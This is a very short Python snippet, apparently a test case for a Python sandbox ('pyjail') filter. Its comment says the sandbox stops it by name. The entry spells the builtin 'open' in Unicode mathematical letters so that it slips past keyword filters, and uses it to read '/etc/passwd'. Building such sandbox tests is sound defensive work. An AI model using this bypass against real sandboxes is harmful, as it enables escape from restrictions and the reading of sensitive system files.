# goal: builtin names in mathematical letters (a pyjail classic)
# stopped by: names
LEAKED = [𝘰𝘱𝘦𝘯('/etc/passwd').read()]
LEAKED
